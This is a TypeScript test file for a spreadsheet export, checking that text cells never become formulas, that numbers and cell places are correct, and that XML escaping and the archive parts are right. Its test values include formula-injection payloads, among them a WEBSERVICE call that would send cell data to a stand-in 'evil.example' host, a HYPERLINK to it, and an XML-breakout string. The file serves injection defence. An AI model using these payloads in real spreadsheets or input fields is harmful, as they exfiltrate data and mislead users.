import { testRows } from '@site/contract/test-support/test-rows';
import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { type SpreadsheetRow, spreadsheetOf } from './spreadsheet.ts';

/** Gives the files of a ZIP archive. */
async function filesOf(archive: Blob): Promise<Record<string, string>> {
  const files = Object.entries(unzipSync(new Uint8Array(await archive.arrayBuffer())));
  return Object.fromEntries(files.map(([path, bytes]) => [path, strFromU8(bytes)]));
}

interface Cell {
  place: string;
  value: string | number;
}

/** Gives the cells of a spreadsheet: shown text, and numbers. Throws if there is anything else, such as a formula. */
async function cellsOf(rows: readonly SpreadsheetRow[]): Promise<Cell[]> {
  const sheet = (await filesOf(spreadsheetOf(rows)))['xl/worksheets/sheet1.xml'] ?? '';
  const cells: Cell[] = [];
  const rest = sheet.replaceAll(
    /<c r="([A-Z]+\d+)"(?: s="1" t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t><\/is>|><v>([\d.-]+)<\/v>)<\/c>/g,
    (_, place, text, number) => {
      cells.push({ place, value: number === undefined ? unescaped(text) : Number(number) });
      return '';
    },
  );
  expect(rest.replaceAll(/<row r="\d+"><\/row>/g, '')).toMatch(
    /^<\?xml [^>]*\?>\n<worksheet xmlns="[^"]*"><sheetData><\/sheetData><\/worksheet>$/,
  );
  return cells;
}

const unescaped = (text: string) =>
  text
    .replaceAll('&#13;', '\r')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
    .replaceAll('_x005F_', '_');

testRows([
  '=1+1',
  '+44 20',
  '-1',
  '@SUM(A1)',
  '\t=1',
  'Thanks;=1+1',
  'x;http://evil.example/?;=WEBSERVICE(B2&A1);y',
  'one line\n=1+1',
  'one line\r\n=1+1',
  '=HYPERLINK("https://evil.example","click")',
  '07700900123',
  '+447700900123',
  '1e5',
  '2026-01-31',
  '_x003D_1+1',
  '</t></is></c><c><f>1+1</f></c>',
  '&lt;&amp;',
  ' blanks ',
  'constructor',
  '__proto__',
  'Дмитрий, आरती, 😀',
  '',
])('a text stays unchanged in its cell', async (text) => {
  expect(await cellsOf([['a', text]])).toEqual([
    { place: 'A1', value: 'a' },
    { place: 'B1', value: text },
  ]);
});

test('a number stays a number, and rows and columns have their places', async () => {
  const row = Array.from({ length: 28 }, (_, index) => index / 2);
  const cells = await cellsOf([['Week of', 'Received'], ['1 June', 12], row]);
  expect(cells.slice(0, 4)).toEqual([
    { place: 'A1', value: 'Week of' },
    { place: 'B1', value: 'Received' },
    { place: 'A2', value: '1 June' },
    { place: 'B2', value: 12 },
  ]);
  expect(cells.slice(4).map(({ value }) => value)).toEqual(row);
  expect(cells.slice(-3).map(({ place }) => place)).toEqual(['Z3', 'AA3', 'AB3']);
});

test('characters that XML forbids are left out, and a text that is too long for a cell says so', async () => {
  expect(await cellsOf([['a\u0000\u000b\ud800\uffffb']])).toEqual([{ place: 'A1', value: 'ab' }]);
  const [cell] = await cellsOf([['x'.repeat(50_000)]]);
  expect(cell?.value).toHaveLength(32_767);
  expect(cell?.value).toMatch(/x … \(The rest did not fit into the cell\.\)$/);
});

test('the archive has the parts that a spreadsheet needs, and text cells have the text format', async () => {
  const files = await filesOf(spreadsheetOf([['a']]));
  expect(Object.keys(files)).toEqual([
    '[Content_Types].xml',
    '_rels/.rels',
    'xl/workbook.xml',
    'xl/_rels/workbook.xml.rels',
    'xl/styles.xml',
    'xl/worksheets/sheet1.xml',
  ]);
  expect(files['xl/styles.xml']).toContain('<cellXfs count="2"><xf numFmtId="0"');
  expect(files['xl/styles.xml']).toContain('<xf numFmtId="49"');
});
